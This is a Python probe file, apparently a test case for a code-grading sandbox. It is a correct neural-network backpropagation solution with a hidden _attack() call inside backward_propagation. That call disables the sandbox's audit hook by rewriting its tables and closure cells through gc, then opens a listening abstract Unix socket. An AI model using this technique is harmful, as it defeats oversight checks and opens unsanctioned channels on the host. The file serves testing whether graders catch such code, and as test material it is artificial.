"""Probe (correct gradients): the audit hook patched out, then an AF_UNIX socket bound to an abstract address and listening, reachable by any process on the host. A broken grader passes the file (exit 0)."""

import os
import sys

import numpy as np


def _unhook():
    """Disable the child's audit hook from inside: it reads its tables from the module
    globals of __main__ (the child script) and its path test from closure cells."""
    import gc

    main = sys.modules["__main__"]
    main._BLOCKED_EVENTS = frozenset()
    main._PATH_EVENTS = frozenset()
    main._foreign_proc = lambda path: False
    for obj in gc.get_objects():
        if type(obj) is type(_unhook) and obj.__name__ == "inside" and obj.__module__ == "__main__":
            for name, cell in zip(obj.__code__.co_freevars, obj.__closure__ or ()):
                if name in ("scratch", "sep"):
                    cell.cell_contents = ""  # every path then starts with scratch + sep


_DONE = []


def _attack():
    if _DONE:
        return
    _DONE.append(True)
    import socket

    _unhook()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\0gc-hostile-os-%d" % os.getpid())
    s.listen(1)
    _KEEP.append(s)


_KEEP = []


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def forward_propagation(X, parameters):
    W1, b1 = parameters["W1"], parameters["b1"]
    W2, b2 = parameters["W2"], parameters["b2"]
    Z1 = W1 @ X + b1
    A1 = np.tanh(Z1)
    Z2 = W2 @ A1 + b2
    A2 = sigmoid(Z2)
    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}


def compute_cost(A2, Y):
    m = Y.shape[1]
    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
    return float(-np.sum(losses) / m)


def backward_propagation(parameters, cache, X, Y):
    m = X.shape[1]
    W2 = parameters["W2"]
    A1, A2 = cache["A1"], cache["A2"]
    dZ2 = A2 - Y
    dW2 = dZ2 @ A1.T / m
    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
    dW1 = dZ1 @ X.T / m
    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
    _attack()
    return grads
